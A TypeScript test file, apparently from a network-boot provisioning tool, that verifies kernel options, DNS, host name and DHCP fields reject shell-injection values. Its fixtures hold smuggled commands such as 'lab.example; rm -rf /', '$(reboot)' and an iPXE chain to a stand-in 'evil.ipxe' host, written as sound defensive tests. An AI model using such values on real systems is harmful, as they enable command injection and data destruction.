// Values that end up in shell lines of kickstarts and in boot loader scripts are checked when they are written
// (issue 10): kernel options, DNS servers and search domains, host names and interface names. A value that could
// run a command is refused with a sentence naming it; ordinary values pass unchanged.

import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { BootwrightError } from '../errors.js';
import { findField, interfaceFields, profileFields, systemFields } from './fields.js';
import { parseFieldValue } from './parse-field.js';
import { settingFields } from './settings.js';

function field(fields: typeof systemFields, name: string) {
  const found = findField(fields, name);
  assert.ok(found, name);
  return found;
}

function refused(fields: typeof systemFields, name: string, value: unknown, mention: RegExp): void {
  assert.throws(
    () => parseFieldValue(field(fields, name), value),
    (error: unknown) =>
      error instanceof BootwrightError && error.code === 'E_INVALID' && mention.test(error.message),
    `${name} ${JSON.stringify(value)}`,
  );
}

describe('values bound for shell lines and boot loader scripts', () => {
  it('refuses kernel options that would separate, substitute or quote commands', () => {
    for (const fields of [systemFields, profileFields, settingFields]) {
      for (const name of ['kernel_options', 'kernel_options_post']) {
        refused(fields, name, 'quiet; reboot', /";"/);
        refused(fields, name, 'a=$(reboot)', /"\$"/);
        refused(fields, name, 'a=`id`', /"`"/);
        refused(fields, name, 'a=1 || reboot', /"\|"/);
        refused(fields, name, { ks: 'x y' }, /white space/);
        refused(fields, name, { 'k;reboot': null }, /";"/);
        refused(fields, name, { a: ['1', '2\nreboot'] }, /white space|"\\n"/);
      }
    }
  });

  it('keeps ordinary kernel options as they were', () => {
    const options = parseFieldValue(
      field(profileFields, 'kernel_options'),
      'console=ttyS0,115200n8 !quiet inst.ks=http://192.0.2.1/cblr/svc/op/ks/profile/p?x=1 ip=dhcp netcfg/choose_interface=auto',
    );
    assert.deepEqual(options, {
      console: 'ttyS0,115200n8',
      '!quiet': null,
      'inst.ks': 'http://192.0.2.1/cblr/svc/op/ks/profile/p?x=1',
      ip: 'dhcp',
      'netcfg/choose_interface': 'auto',
    });
  });

  it('takes only addresses as DNS servers and only DNS names as search domains', () => {
    for (const [fields, prefix] of [
      [systemFields, ''],
      [profileFields, ''],
      [settingFields, 'default_'],
    ] as const) {
      refused(fields, `${prefix}name_servers`, '192.0.2.53;reboot', /not an IP address/);
      refused(fields, `${prefix}name_servers`, ['192.0.2.53', '$(id)'], /not an IP address/);
      refused(fields, `${prefix}name_servers_search`, 'example.org;reboot', /not valid/);
      assert.deepEqual(parseFieldValue(field(fields, `${prefix}name_servers`), '192.0.2.53 2001:db8::53'), [
        '192.0.2.53',
        '2001:db8::53',
      ]);
    }
  });

  it('refuses text bound for kernel command lines and DHCP that would end its word (issue 16)', () => {
    refused(systemFields, 'server', '192.0.2.1/x || chain http://203.0.113.9/evil.ipxe', /not an IPv4/);
    refused(settingFields, 'next_server', '192.0.2.1 x', /not an IPv4/);
    refused(systemFields, 'serial_device', '0 || chain x', /white space/);
    refused(systemFields, 'autoinstall', 'http://192.0.2.1/ks;reboot', /";"/);
    refused(settingFields, 'dhcp_domain', 'lab.example; rm -rf /', /not valid/);
    refused(settingFields, 'dhcp_dns_servers', '192.0.2.53,2001:db8::53', /not a valid IPv4/);
    refused(interfaceFields, 'cnames', 'www;reboot', /not valid/);
    refused(interfaceFields, 'dhcp_tag', 'lab,set:known', /a tag may hold/);
    assert.equal(parseFieldValue(field(systemFields, 'serial_device'), '0'), '0');
    assert.equal(parseFieldValue(field(systemFields, 'autoinstall'), 'sample.ks'), 'sample.ks');
  });

  it('refuses any host name, DNS name or interface name with a shell character, whatever else it holds', () => {
    const shellCharacter = fc.constantFrom(
      ';',
      '&',
      '|',
      '`',
      '$',
      '(',
      ')',
      '<',
      '>',
      ' ',
      '"',
      "'",
      '\\',
      '\n',
      '*',
    );
    fc.assert(
      fc.property(
        fc.string({ maxLength: 20 }),
        shellCharacter,
        fc.string({ maxLength: 20 }),
        (before, bad, after) => {
          const text = `${before}${bad}${after}`;
          if (text.trim() !== text) return; // surrounding white space is trimmed, as from a command line
          for (const [fields, name] of [
            [systemFields, 'hostname'],
            [interfaceFields, 'dns_name'],
          ] as const) {
            assert.throws(
              () => parseFieldValue(field(fields, name), text),
              BootwrightError,
              `${name} ${JSON.stringify(text)}`,
            );
          }
        },
      ),
      { numRuns: 2_000 },
    );
  });
});
